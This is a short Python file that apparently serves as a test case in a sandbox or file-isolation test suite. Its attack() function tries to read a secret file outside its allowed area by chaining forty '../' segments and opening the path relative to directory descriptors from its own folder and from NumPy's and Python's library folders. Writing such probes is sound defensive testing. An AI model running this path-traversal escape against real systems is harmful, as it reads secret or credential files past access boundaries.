"""Climbs out with many dots, from its own folder and from NumPy's, and by descriptors of folders."""

import os

import numpy as np


def attack():
    inside = "../" * 40 + TARGETS["readable_secret"].lstrip("/")
    starts = (".", os.path.dirname(np.__file__), os.path.dirname(os.__file__))
    for start in starts:
        try:
            folder = os.open(start, os.O_RDONLY | os.O_DIRECTORY)
        except OSError:
            continue
        try:
            descriptor = os.open(inside, os.O_RDONLY, dir_fd=folder)
            data = os.read(descriptor, 100)
            os.close(descriptor)
            if data:
                return f"{len(data)} bytes from {start} upwards"
        except OSError:
            continue
        finally:
            os.close(folder)
